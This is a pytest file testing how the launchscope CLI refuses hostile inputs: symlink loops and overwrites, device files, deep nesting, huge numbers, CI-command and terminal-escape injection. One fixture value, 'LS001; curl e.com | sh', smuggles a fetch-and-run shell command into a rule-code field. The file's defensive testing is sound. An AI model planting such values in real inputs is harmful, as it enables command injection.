"""Where reports go and what is read: files, links, devices, names and sizes that want to harm."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest

from launchscope.cli import main
from launchscope.model import Profile
from launchscope.report import render
from launchscope.visible import visible
from tests.report.hostile import NASTY, endless, filled
from tests.report.test_golden import VALUES


@pytest.fixture
def saved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Profile:
    """A Profile in `profile.json` of the working directory."""
    monkeypatch.chdir(tmp_path)
    profile = VALUES["adopt"]()
    assert isinstance(profile, Profile)
    write("profile.json", profile)
    return profile


def write(name: str, profile: Profile) -> None:
    made = render(profile, "json")
    Path(name).write_bytes(made if isinstance(made, bytes) else made.encode())


def refused(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    """What the command says on stderr, which is never that launchscope has a bug."""
    assert main(list(words)) in (2, 3)
    said = capsys.readouterr().err
    assert said.startswith("error: ")
    assert "bug in launchscope" not in said
    return said


def test_no_report_replaces_another_one_or_what_is_read(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("link.html").symlink_to("a.md")
    for others in (("a.md", "./a.md"), ("a.md", "link.html")):
        words = [word for name in others for word in ("-o", name)]
        assert "another report" in refused(capsys, "report", "profile.json", *words)
    write("other.json", saved)
    Path("same.json").symlink_to("other.json")
    Path("folder").mkdir()
    write("folder/rank0.json", saved)
    for inputs, output in (
        (("profile.json", "other.json"), "same.json"),
        (("folder",), "folder/rank0.json"),
    ):
        assert "what is read" in refused(capsys, "report", *inputs, "-o", output)
    assert json.loads(Path("other.json").read_text())["schema"] == saved.schema
    assert main(["report", "profile.json", "--threshold", "20", "-o", "profile.json"]) == 0


def test_a_report_goes_to_no_file_that_stdout_goes_to(
    saved: Profile, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    with open("all.md", "w") as stdout:
        monkeypatch.setattr("sys.stdout", stdout)
        assert main(["report", "profile.json", "-o", "all.md"]) == 2
    assert "stdout" in capfd.readouterr().err


def test_links_in_a_circle_are_refused_before_the_work(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("loop.md").symlink_to("loop.md")
    assert "saved as" not in refused(capsys, "report", "profile.json", "-o", "loop.md")


def test_a_suggested_command_takes_a_name_for_no_option(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "mkdir -p ./-n" in refused(capsys, "report", "profile.json", "-o", "-n/x.md")


def test_a_file_suggests_no_command_but_a_rule(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert saved.verdict is not None
    for code, commands in (("LS001", 1), ("LS001; curl e.com | sh", 0)):
        write("made.json", replace(saved, verdict=replace(saved.verdict, because=(code,))))
        assert main(["report", "made.json"]) == 0
        assert capsys.readouterr().out.count("launchscope rules LS001") == commands


def test_no_file_has_a_line_that_a_ci_service_takes_for_a_command(saved: Profile) -> None:
    nasty = tuple(name for name in NASTY if "::" in name or "##" in name)
    write("made.json", filled(replace(saved, metrics={}), endless(nasty)))
    files = [f"a.{suffix}" for suffix in ("md", "txt", "csv", "xml", "html", "sarif", "json")]
    assert main(["report", "made.json", *(word for file in files for word in ("-o", file))]) == 0
    for file in files:
        for line in Path(file).read_text().splitlines():
            assert not line.lstrip().startswith("::"), (file, line)
            assert not re.search(r"##\w*\[", line), (file, line)


def test_a_device_is_not_read_to_its_end(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("endless.json").symlink_to("/dev/zero")
    for words in (
        ("check", "--baseline", "endless.json", "profile.json"),
        ("check", "--baseline", "endless.json", "--update-baseline", "profile.json"),
        ("check", "--baseline", "profile.json", "endless.json"),
        ("report", "endless.json"),
    ):
        assert "not a file" in refused(capsys, *words)
    assert "too large" in refused(capsys, "report", "profile.json", "--config", "endless.json")


def test_what_is_nested_too_deeply_is_damaged(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    Path("deep.json").write_text(f'{{"schema": "{saved.schema}", "notes": {deep}}}')
    assert "damaged" in refused(capsys, "report", "deep.json")
    Path("deep.toml").write_text(f"a = {deep}\n")
    assert "valid TOML" in refused(capsys, "report", "profile.json", "--config", "deep.toml")


def test_numbers_and_names_of_any_length_are_refused_or_ignored(
    saved: Profile, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    digits = "9" * 5000
    assert "no rule" in refused(capsys, "rules", digits)
    assert "a size" in refused(capsys, "report", "profile.json", "--max-memory", digits)
    long = ("--baseline", "baselines/", "--update-baseline", "--workload", "学" * 70)
    assert "200 bytes" in refused(capsys, "check", *long, "profile.json")
    for columns in (digits, "100000"):
        monkeypatch.setenv("COLUMNS", columns)
        assert main(["report", "profile.json"]) == 0
        assert max(map(len, capsys.readouterr().out.splitlines())) <= 120


def test_a_recording_names_no_trace_of_another_folder_and_no_endless_inspection(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sample = Path(__file__).parents[2] / "sample_workloads" / "recordings" / "small_mlp"
    recording = json.loads((sample / "recording.json").read_text())
    steps, recording["inspect"]["steps"] = recording["inspect"]["steps"], 10**30
    (tmp_path / "recording.json").write_text(json.dumps(recording))
    assert "damaged" in refused(capsys, "report", str(tmp_path))
    recording["inspect"]["steps"] = steps
    recording["trace"]["file"] = str(sample / recording["trace"]["file"])
    (tmp_path / "recording.json").write_text(json.dumps(recording))
    assert "not beside it" in refused(capsys, "report", str(tmp_path))


@pytest.mark.child
def test_doctor_shows_visibly_what_an_interpreter_says(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    python = tmp_path / "python"
    python.write_text(
        "#!/bin/sh\n"
        r"""printf '["ok", "\\u001b[2J\\n::error::x", "\\u001b]0;title\\u0007"]\n'"""
        r"""; printf '["ok", 5, "x"]\n[["ok"], {}, 3]\n[[[[\n["ok", "a"]\n\351\233\n'"""
        r"""; printf '\033]0;title\007\n' >&2; exit 7"""
    )
    python.chmod(0o755)
    assert main(["doctor", "--python", str(python)]) == 3
    said = capsys.readouterr()
    assert r"\x1b]0;title\x07" in said.out
    assert "exit code 7" in said.out
    lines = (said.out + said.err).split("\n")
    assert [visible(line) for line in lines] == lines
